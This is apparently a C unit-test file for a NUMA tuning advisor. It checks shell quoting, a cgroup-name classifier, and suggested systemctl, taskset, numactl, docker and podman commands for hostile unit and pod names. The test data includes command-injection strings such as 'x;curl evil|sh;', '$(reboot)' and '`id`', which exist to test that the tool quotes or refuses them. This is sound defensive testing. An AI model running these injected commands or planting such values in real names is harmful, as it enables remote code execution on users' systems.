// SPDX-License-Identifier: GPL-2.0
/*
 * Suggested commands against names other users choose (issue 13): the
 * shell quoting of one word and of a command line, the cgroup classifier's
 * refusal of unit, container and pod names that are not what they claim,
 * the exact commands for hostile cgroup paths, and a round trip through
 * bash: every command line, run with its command name printed instead of
 * run, gives exactly the argv meant.
 */
#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>
#include <cmocka.h>
#include "advice_text.h"
#include "advisor.h"
#include "cgroup.h"
#include "fixtures.h"
#include "shquote.h"

#define HEX64 "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
#define USER_MANAGER "/user.slice/user-1000.slice/user@1000.service"
#define MAX_WORDS 32

/* ---- One word, one line ---- */

static void check_word(const char *arg, size_t len, const char *want)
{
	char out[256];
	size_t n = nl_shquote(arg, len, out, sizeof(out));

	assert_string_equal(out, want);
	assert_int_equal(n, strlen(want));
}

static void test_quote_word(void **state)
{
	check_word("--cpuset-cpus", 13, "--cpuset-cpus");
	check_word("a-1.2_x:y,z+@%/=b", 17, "a-1.2_x:y,z+@%/=b");
	check_word("", 0, "''");
	check_word("a b", 3, "'a b'");
	check_word("it's", 4, "'it'\\''s'");
	check_word("$(reboot)", 9, "'$(reboot)'");
	check_word("`id`", 4, "'`id`'");
	check_word("x;curl evil|sh;", 15, "'x;curl evil|sh;'");
	check_word("~root", 5, "'~root'");
	check_word("#x", 2, "'#x'");
	check_word("*?[", 3, "'*?['");
	check_word("a\\x2d", 5, "'a\\x2d'");
	check_word("\xc3\xa9t\xc3\xa9", 5, "'\xc3\xa9t\xc3\xa9'"); /* été: text */
	/* Bytes a terminal must not see: $'...' with \xHH, \n, \t. */
	check_word("a\nb", 3, "$'a\\nb'");
	check_word("a\tb'\\", 5, "$'a\\tb\\'\\\\'");
	check_word("\xff", 1, "$'\\xff'");
	check_word("a\x1b[2J", 5, "$'a\\x1b[2J'");
	check_word("\xe2\x80\xae", 3, "$'\\xe2\\x80\\xae'"); /* U+202E reorders text */
	check_word("\xc2\x9b", 2, "$'\\xc2\\x9b'");	     /* C1 CSI */
}

static void test_quote_fit(void **state)
{
	char out[8], line[16] = "";

	/* A word that does not fit is not cut: nothing is written. */
	assert_int_equal(nl_shquote("abcdefgh", 8, out, sizeof(out)), 0);
	assert_string_equal(out, "");
	assert_int_equal(nl_shquote("it's", 4, out, sizeof(out)), 0);
	assert_int_equal(nl_shquote("abcdefg", 7, out, sizeof(out)), 7);
	assert_int_equal(nl_shquote("x", 1, out, 0), 0);

	/* The first word with '=' would be an assignment. */
	assert_true(nl_shquote_append(line, sizeof(line), "A=1", 3));
	assert_true(nl_shquote_append(line, sizeof(line), "B=2", 3));
	assert_string_equal(line, "'A=1' B=2");
	assert_false(nl_shquote_append(line, sizeof(line), "toolong", 7));
	assert_string_equal(line, "'A=1' B=2");
}

static void test_quote_args(void **state)
{
	static const char argv[] = "./app\0--size\0a b\0\0it's\0";
	char buf[64];

	nl_shquote_args(argv, sizeof(argv) - 1, buf, sizeof(buf));
	assert_string_equal(buf, "./app --size 'a b' '' 'it'\\''s'");
	/* Cut after a whole word, and said. */
	nl_shquote_args("aaaa\0bbbb\0", 10, buf, 12);
	assert_string_equal(buf, "aaaa ...");
	nl_shquote_args("aaaaaaaaaaaa\0", 13, buf, 12);
	assert_string_equal(buf, "...");
	nl_shquote_args("a\0", 2, buf, 5); /* room for the mark alone */
	assert_string_equal(buf, "...");
	nl_shquote_args("a\0", 2, buf, 4);
	assert_string_equal(buf, "");
	nl_shquote_args("a=b\0c=d\0", 8, buf, sizeof(buf));
	assert_string_equal(buf, "'a=b' c=d");
}

/* ---- Names the classifier keeps and refuses ---- */

static void check_refused_unit(const char *path)
{
	struct nl_cgroup_context c;

	nl_cgroup_classify(path, &c);
	assert_int_equal(c.runtime, NL_RT_SYSTEMD);
	assert_string_equal(c.unit, "");
	assert_int_equal(c.refused, NL_REFUSED_UNIT);
	assert_false(c.user_unit);
}

static void check_unit(const char *path, const char *unit, bool user_unit)
{
	struct nl_cgroup_context c;

	nl_cgroup_classify(path, &c);
	assert_int_equal(c.runtime, NL_RT_SYSTEMD);
	assert_string_equal(c.unit, unit);
	assert_int_equal(c.refused, NL_REFUSED_NONE);
	assert_int_equal(c.user_unit, user_unit);
}

static void test_classify_units(void **state)
{
	char path[512], name[300];

	check_refused_unit(USER_MANAGER "/x;curl evil|sh;.service");
	check_refused_unit("/system.slice/it's.service");
	check_refused_unit("/system.slice/a\"b.service");
	check_refused_unit("/system.slice/a\nb.service");
	check_refused_unit("/system.slice/$(reboot).service");
	check_refused_unit("/system.slice/`id`.scope");
	check_refused_unit("/system.slice/a b.service");
	check_refused_unit("/system.slice/\xff\xfe.service");
	check_refused_unit("/system.slice/.service");
	check_refused_unit("/system.slice/foo@.service"); /* a template */
	check_refused_unit("/system.slice/@foo.service");
	/* Nothing below a refused name is taken for a unit. */
	check_refused_unit("/system.slice/a;b.service/good.scope");
	check_refused_unit("/system.slice/docker-0123456789ab;x.scope");

	/* 255 bytes at most (systemd's UNIT_NAME_MAX, with its NUL). */
	memset(name, 'a', 248);
	strcpy(name + 247, ".service");
	assert_int_equal(strlen(name), 255);
	snprintf(path, sizeof(path), "/system.slice/%s", name);
	check_unit(path, name, false);
	memset(name, 'a', 248);
	strcpy(name + 248, ".service");
	snprintf(path, sizeof(path), "/system.slice/%s", name);
	check_refused_unit(path);

	check_unit("/system.slice/systemd-fsck@dev-disk-by\\x2duuid-1234.service",
		   "systemd-fsck@dev-disk-by\\x2duuid-1234.service", false);
	check_unit("/system.slice/a@b@c:d.e.service", "a@b@c:d.e.service", false);
	check_unit(USER_MANAGER, "user@1000.service", false);
	check_unit(USER_MANAGER "/app.slice/app-x.scope", "app-x.scope", true);
}

static void test_classify_containers_pods(void **state)
{
	struct nl_cgroup_context c;

	nl_cgroup_classify("/system.slice/docker-" HEX64 ".scope", &c);
	assert_int_equal(c.runtime, NL_RT_DOCKER);
	assert_string_equal(c.container, HEX64);
	/* Only a 64-digit id is a container's. */
	nl_cgroup_classify("/docker/0123456789abcdef", &c);
	assert_int_equal(c.runtime, NL_RT_NONE);
	assert_string_equal(c.container, "");
	nl_cgroup_classify("/docker/" HEX64 "0", &c);
	assert_string_equal(c.container, "");

	nl_cgroup_classify("/kubepods/burstable/pod$(reboot)/" HEX64, &c);
	assert_int_equal(c.runtime, NL_RT_KUBERNETES);
	assert_string_equal(c.pod, "");
	assert_int_equal(c.refused, NL_REFUSED_POD);
	assert_string_equal(c.container, HEX64);
	nl_cgroup_classify("/kubepods/burstable/pod0F1E2D3C-4B5A-6978-8796-A5B4C3D2E1F0", &c);
	assert_int_equal(c.refused, NL_REFUSED_POD);
	nl_cgroup_classify("/kubepods/burstable/pod0f1e2d3c4-b5a-6978-8796-a5b4c3d2e1f0", &c);
	assert_int_equal(c.refused, NL_REFUSED_POD);
	/* A static pod's UID is its manifest's hash. */
	nl_cgroup_classify("/kubepods/burstable/pod0123456789abcdef0123456789abcdef", &c);
	assert_string_equal(c.pod, "0123456789abcdef0123456789abcdef");
	assert_int_equal(c.refused, NL_REFUSED_NONE);
	/* A valid pod deeper than a refused segment is the pod. */
	nl_cgroup_classify("/kubepods/podx/pod0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0", &c);
	assert_string_equal(c.pod, "0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0");
	assert_int_equal(c.refused, NL_REFUSED_NONE);
}

/* ---- The commands ---- */

static struct nl_advice advice;
static struct nl_proc_limits limits;

/* Threads to node 1 (CPUs 2-3), nothing to migrate; a plain process. */
static int reset(void **state)
{
	memset(&advice, 0, sizeof(advice));
	advice.action = NL_ACT_AFFINITY;
	advice.nodes = 1u << 1;
	advice.cpus[0] = 0xc;
	advice.nr_cpus = 2;
	advice.whole_nodes = true;
	memset(&limits, 0, sizeof(limits));
	return 0;
}

static size_t commands(const char *cgroup, struct nl_command *c)
{
	nl_cgroup_classify(cgroup, &limits.ctx);
	return nl_advice_commands(&advice, 42, &limits, c, NL_MAX_COMMANDS);
}

static bool has_form(const struct nl_command *c, size_t nr, enum nl_form form)
{
	size_t i;

	for (i = 0; i < nr; i++)
		if (c[i].form == form)
			return true;
	return false;
}

static void test_hostile_commands(void **state)
{
	struct nl_command c[NL_MAX_COMMANDS];
	size_t nr;

	nr = commands(USER_MANAGER "/x;curl evil|sh;.service", c);
	assert_int_equal(nr, 3);
	assert_string_equal(c[0].text, "taskset -a -p -c 2-3 42");
	assert_string_equal(c[1].text, "numalens pin 42 --node 1 --apply");
	assert_string_equal(c[2].text, "numactl --cpunodebind=1 --membind=1 COMMAND");

	nr = commands("/system.slice/a\nb`id`$(x).service", c);
	assert_false(has_form(c, nr, NL_FORM_SYSTEMCTL));
	assert_false(has_form(c, nr, NL_FORM_UNIT_FILE));

	/* A valid name can still hold what bash would read: quoted. */
	nr = commands("/system.slice/systemd-fsck@dev-disk-by\\x2duuid-1234.service", c);
	assert_int_equal(nr, 4);
	assert_string_equal(c[0].text, "systemctl set-property --runtime "
				       "'systemd-fsck@dev-disk-by\\x2duuid-1234.service' "
				       "AllowedCPUs=2-3 AllowedMemoryNodes=1");
	assert_string_equal(c[1].text, "[Service] CPUAffinity=2-3 NUMAPolicy=bind NUMAMask=1");

	nr = commands("/kubepods/burstable/pod`id`/" HEX64, c);
	assert_int_equal(nr, 1);
	assert_true(!strncmp(c[0].text, "pod ?: give it Guaranteed QoS", 29));

	/* The process's own name, when its command line is unknown. */
	strcpy(limits.comm, "a b;$(x)`y`'\"");
	nr = commands("/", c);
	assert_string_equal(c[nr - 1].text,
			    "numactl --cpunodebind=1 --membind=1 'a b;$(x)`y`'\\''\"'");
}

/* The argv bash makes of line, its command name printed rather than run:
 * the line runs after printf '%s\0'. PATH leads nowhere, so a word that
 * got out of its quotes runs nothing. Returns the number of words. */
static size_t bash_words(const char *line, char *buf, size_t size, const char **words)
{
	char script[1024];
	size_t got = 0, nr = 0, i;
	int fds[2], status;
	ssize_t n;
	pid_t pid;

	snprintf(script, sizeof(script), "printf '%%s\\0' %s", line);
	assert_int_equal(pipe(fds), 0);
	pid = fork();
	assert_true(pid >= 0);
	if (!pid) {
		char *const argv[] = { "bash", "--norc", "--noprofile", "-c", script, NULL };
		char *const envp[] = { "PATH=/nonexistent", "LC_ALL=C", NULL };
		int null = open("/dev/null", O_RDWR);

		dup2(fds[1], 1);
		dup2(null, 0);
		dup2(null, 2);
		close(fds[0]);
		execve("/bin/bash", argv, envp);
		_exit(127);
	}
	close(fds[1]);
	while (got + 1 < size && (n = read(fds[0], buf + got, size - got - 1)) > 0)
		got += n;
	close(fds[0]);
	assert_int_equal(waitpid(pid, &status, 0), pid);
	buf[got] = '\0';
	for (i = 0; i < got && nr < MAX_WORDS; i += strlen(buf + i) + 1)
		words[nr++] = buf + i;
	return nr;
}

static void check_argv(const struct nl_command *c, const char *const *want)
{
	const char *words[MAX_WORDS];
	char buf[4096];
	size_t nr = bash_words(c->text, buf, sizeof(buf), words), meant = 0, i;

	while (want[meant])
		meant++;
	for (i = 0; i < meant && i < nr; i++)
		if (strcmp(words[i], want[i]))
			fail_msg("%s\n  word %zu is '%s', meant '%s'", c->text, i, words[i],
				 want[i]);
	if (nr != meant)
		fail_msg("%s\n  gives %zu words, meant %zu", c->text, nr, meant);
}

/* The command of form in c[0..nr), which must be there. */
static const struct nl_command *form_of(const struct nl_command *c, size_t nr, enum nl_form form)
{
	size_t i;

	for (i = 0; i < nr; i++)
		if (c[i].form == form)
			return &c[i];
	fail_msg("no command of form %s", nl_form_name(form));
	return NULL;
}

static void test_round_trip(void **state)
{
	static const char args[] = "./evil\0a\x1b[2Jb\xff\0it's\0q\\\xc2\x9b\tx\n\0\0"
				   "$(reboot)\0`id`\0a=b\0x;y|z&\0";
	struct nl_command c[NL_MAX_COMMANDS];
	size_t nr;

	if (access("/bin/bash", X_OK))
		skip_because("no /bin/bash to read the commands back");

	/* A plain process: its command line, every byte of it. */
	nl_shquote_args(args, sizeof(args) - 1, limits.cmdline, sizeof(limits.cmdline));
	advice.move_bytes = 1 << 20;
	advice.move_from = 1u << 0;
	nr = commands("/", c);
	check_argv(form_of(c, nr, NL_FORM_TASKSET),
		   (const char *[]){ "taskset", "-a", "-p", "-c", "2-3", "42", NULL });
	check_argv(form_of(c, nr, NL_FORM_MIGRATEPAGES),
		   (const char *[]){ "migratepages", "42", "0", "1", NULL });
	check_argv(form_of(c, nr, NL_FORM_NUMALENS),
		   (const char *[]){ "numalens", "pin", "42", "--node", "1", "--migrate-memory",
				     "--apply", NULL });
	check_argv(form_of(c, nr, NL_FORM_NUMACTL),
		   (const char *[]){ "numactl", "--cpunodebind=1", "--membind=1", "./evil",
				     "a\x1b[2Jb\xff", "it's", "q\\\xc2\x9b\tx\n", "", "$(reboot)",
				     "`id`", "a=b", "x;y|z&", NULL });

	/* Its name alone, when the command line is unknown. */
	limits.cmdline[0] = '\0';
	strcpy(limits.comm, "a b;$(x)`y`'\"");
	advice.whole_nodes = false;
	nr = commands("/", c);
	check_argv(form_of(c, nr, NL_FORM_NUMACTL),
		   (const char *[]){ "numactl", "--physcpubind=2-3", "--membind=1",
				     "a b;$(x)`y`'\"", NULL });
	check_argv(form_of(c, nr, NL_FORM_NUMALENS),
		   (const char *[]){ "numalens", "pin", "42", "--cpus", "2-3", "--migrate-memory",
				     "--apply", NULL });

	/* Units, system and user, with bytes bash reads in their names. */
	nr = commands("/system.slice/systemd-fsck@dev-disk-by\\x2duuid-1234.service", c);
	check_argv(form_of(c, nr, NL_FORM_SYSTEMCTL),
		   (const char *[]){ "systemctl", "set-property", "--runtime",
				     "systemd-fsck@dev-disk-by\\x2duuid-1234.service",
				     "AllowedCPUs=2-3", "AllowedMemoryNodes=1", NULL });
	nr = commands(USER_MANAGER "/app.slice/app-a\\x3bb@x:y.scope", c);
	check_argv(form_of(c, nr, NL_FORM_SYSTEMCTL),
		   (const char *[]){ "systemctl", "--user", "set-property", "--runtime",
				     "app-a\\x3bb@x:y.scope", "AllowedCPUs=2-3",
				     "AllowedMemoryNodes=1", NULL });

	/* A hostile name: refused, and what is left is exact. */
	nr = commands(USER_MANAGER "/x;curl evil|sh;.service", c);
	assert_false(has_form(c, nr, NL_FORM_SYSTEMCTL));
	check_argv(form_of(c, nr, NL_FORM_NUMACTL),
		   (const char *[]){ "numactl", "--physcpubind=2-3", "--membind=1",
				     "a b;$(x)`y`'\"", NULL });

	nr = commands("/system.slice/docker-" HEX64 ".scope", c);
	check_argv(form_of(c, nr, NL_FORM_DOCKER),
		   (const char *[]){ "docker", "update", "--cpuset-cpus", "2-3", "--cpuset-mems",
				     "1", "0123456789ab", NULL });
	nr = commands("/machine.slice/libpod-" HEX64 ".scope/container", c);
	check_argv(form_of(c, nr, NL_FORM_PODMAN),
		   (const char *[]){ "podman", "update", "--cpuset-cpus", "2-3", "--cpuset-mems",
				     "1", "0123456789ab", NULL });
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_quote_word),
		cmocka_unit_test(test_quote_fit),
		cmocka_unit_test(test_quote_args),
		cmocka_unit_test(test_classify_units),
		cmocka_unit_test(test_classify_containers_pods),
		cmocka_unit_test_setup(test_hostile_commands, reset),
		cmocka_unit_test_setup(test_round_trip, reset),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
